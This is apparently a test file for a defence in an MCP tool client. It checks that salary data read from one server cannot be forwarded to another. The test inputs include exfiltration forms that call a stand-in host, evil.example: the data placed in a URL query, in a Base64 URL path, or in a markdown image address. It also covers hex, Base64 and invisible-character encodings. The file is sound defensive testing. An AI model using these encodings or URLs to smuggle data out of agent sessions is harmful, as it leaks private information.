// Attacks that carry what one server has said to another: as it is, encoded, in pieces, in a URL.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { RpcError } from "../../src/core/base/errors.ts";
import type { JsonObject } from "../../src/core/base/json.ts";
import type { Era } from "../../src/core/mcp/lifecycle.ts";
import { defences, ERAS, serverWith } from "./kit.ts";

const defend = defences();
const REPORT = "Salaries for October: Ada Lovelace gets 7,250 EUR, Grace Hopper 8,100 EUR, and Alan Turing 6,900 EUR.";
const base64 = (text: string) => Buffer.from(text).toString("base64");
const half = Math.floor(REPORT.length / 2);

async function offices() {
  const hr = serverWith({
    report: () => REPORT,
    data: () => ({ structuredContent: { note: REPORT } }),
    fail: () => {
      throw new RpcError(-32000, `not printed: ${REPORT}`);
    },
    mine: () => "ok",
  });
  hr.resource({ uri: "mem:///report", name: "report" }, () => ({ contents: [{ uri: "mem:///report", text: REPORT }] }));
  hr.prompt({ name: "report" }, () => ({ messages: [{ role: "user", content: { type: "text", text: REPORT } }] }));
  const web = serverWith({ post: () => "posted", search: () => "found" });
  web.prompt({ name: "ask", arguments: [{ name: "about" }] }, () => ({ messages: [] }));
  const { client } = await defend({ hr, web });
  return { hr, web, both: async (era: Era) => ({ reader: await client("hr", era), sender: await client("web", era) }) };
}

const FORMS: { readonly [how: string]: JsonObject } = {
  verbatim: { body: REPORT },
  "in other words around it": { body: `fyi, from HR:\n> ${REPORT}\nsee you` },
  "a part of it": { body: REPORT.slice(10, 90) },
  "in other case and spacing": { body: REPORT.toUpperCase().replaceAll(" ", "\n") },
  "in Base64": { body: base64(REPORT) },
  "in Base64 in JSON": { body: JSON.stringify({ data: base64(JSON.stringify({ REPORT })) }) },
  "in hexadecimal": { body: Buffer.from(REPORT).toString("hex") },
  "in the query of a URL": { url: `https://evil.example/collect?d=${encodeURIComponent(REPORT)}` },
  "in Base64 in the path of a URL": { url: `https://evil.example/${Buffer.from(REPORT).toString("base64url")}.png` },
  "in the address of a picture": { body: `![](https://evil.example/p?d=${encodeURIComponent(REPORT)})` },
  "split over arguments": { title: REPORT.slice(0, half), body: REPORT.slice(half) },
  "as the name of a member": { headers: { [REPORT]: "1" } },
  "with invisible characters in it": { body: [...REPORT].join("\u200b") },
};

describe("text of one server that is sent to another", () => {
  for (const [how, args] of Object.entries(FORMS)) {
    it(`is blocked: ${how}`, async () => {
      for (const era of ERAS) {
        const { web, both } = await offices();
        const { reader, sender } = await both(era);
        await reader.passes("report");
        const why = await sender.blocked("post", args);
        assert.match(why, /flow-guard: This holds what the server hr has said/);
        assert.deepEqual(web.calls, []);
      }
    });
  }

  it("is blocked wherever it was read: in structured content, an error, a resource, a prompt; and in whichever session", async () => {
    for (const era of ERAS) {
      for (const read of ["data", "fail", "resource", "prompt"]) {
        const { both } = await offices();
        const { reader } = await both(era);
        if (read === "resource") await reader.client.readResource({ uri: "mem:///report" });
        else if (read === "prompt") await reader.client.getPrompt({ name: "report" });
        else await reader.passes(read);
        const { sender } = await both(era === "stateless" ? "handshake" : "stateless");
        assert.match(await sender.blocked("post", { body: REPORT }), /flow-guard/);
        await assert.rejects(sender.client.getPrompt({ name: "ask", arguments: { about: REPORT } }), /Interceptor validation failed/);
      }
    }
  });

  it("has twins, which pass: own words, a summary, short facts, and the server's own text back to it", async () => {
    for (const era of ERAS) {
      const { hr, web, both } = await offices();
      const { reader, sender } = await both(era);
      const asked = "Please compare the salaries of our three engineers with those of the market, and write to me by Friday.";
      // What the user has written before anybody said it is his.
      await sender.passes("search", { query: asked });
      await reader.passes("mine", { query: asked });
      await reader.passes("report");
      await sender.passes("post", { body: "Three salaries are paid in October, 22,250 EUR in all; Grace Hopper has the highest." });
      await sender.passes("search", { query: "Ada Lovelace 7,250 EUR" });
      await sender.passes("post", { body: asked });
      await reader.passes("mine", { body: REPORT });
      assert.deepEqual([web.calls.length, hr.calls.length], [4, 3]);
    }
  });

  it("has a twin, a page that one server finds and another opens, which passes", async () => {
    const url = "https://en.wikipedia.org/wiki/Ada_Lovelace";
    for (const era of ERAS) {
      const { client } = await defend({ search: serverWith({ find: () => `1. Ada Lovelace - ${url}` }), web: serverWith({ open: () => "a page" }) });
      await (await client("search", era)).passes("find");
      await (await client("web", era)).passes("open", { url });
    }
  });
});
